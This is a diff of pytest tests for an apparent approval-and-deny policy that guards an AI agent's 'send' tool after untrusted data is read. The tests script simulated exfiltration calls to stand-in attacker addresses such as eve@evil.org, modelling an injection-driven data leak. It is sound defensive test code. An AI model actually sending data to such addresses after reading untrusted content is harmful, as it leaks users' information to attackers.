@@ -192,6 +192,38 @@ def test_a_remembered_answer_covers_only_its_value(world, how, tmp_path):
 
 
 @pytest.mark.spec("provenance:PV8")
+@pytest.mark.parametrize("how", ["session", "always", "in the rules"])
+@pytest.mark.parametrize(
+    "other", [Rule.ask_after_untrusted("send"), Rule.ask_untrusted("send", "more.to"), Rule.ask_untrusted("*", "to", "more.to")], ids=["any data", "another", "both"]
+)  # fmt: skip
+def test_an_approval_covers_the_values_of_every_rule_that_asks(world, how, other, tmp_path):
+    Policy([Rule.ask_untrusted("send", "to"), other, Rule.allow_tool("*")]).save(tmp_path / "policy.json")
+    kept = PolicyFile(tmp_path / "policy.json")
+    first, second = [send("eve@evil.org", more=[{"to": to}]) for to in ("one@evil.org", "two@evil.org")]
+
+    if how == "in the rules":
+        world.run([READ, first], kept, person=Person(Answer(text="yes", remember="always")))
+        assert 1 == len(world.person.asked)
+        world.run([READ, first, second], kept.policy.with_rules(*kept.remembered))
+        assert 1 == len([question for question in world.person.asked if question.tool_name == "send"])
+    else:
+        world.run([READ, first, first, second], kept, person=Person(Answer(text="yes", remember=how)))
+        assert 2 == len([question for question in world.person.asked if question.tool_name == "send"])
+
+
+@pytest.mark.spec("provenance:PV7", "reliability:R7")
+def test_approved_values_override_no_deny_about_untrusted_data(world, tmp_path):
+    Policy([Rule.ask_untrusted("send"), Rule.allow_tool("*")]).save(tmp_path / "policy.json")
+    kept = PolicyFile(tmp_path / "policy.json")
+    world.run([READ, send("eve@evil.org")], kept, person=Person(Answer(text="yes", remember="always")))
+    assert ["eve@evil.org"] == world.sent
+
+    world.run([READ, send("eve@evil.org")], kept.policy.with_rules(*kept.remembered, Rule.deny_untrusted("send")))
+
+    assert (["eve@evil.org"], []) == (world.sent, world.person.asked)
+
+
+@pytest.mark.spec("provenance:PV8")
 def test_an_allow_for_any_input_covers_no_untrusted_data(world, tmp_path):
     """The one "always allow" that opened the next attack: here it was given before anything untrusted came."""
     policy = Policy([Rule.allow_category("read"), Rule.ask_untrusted("send")])
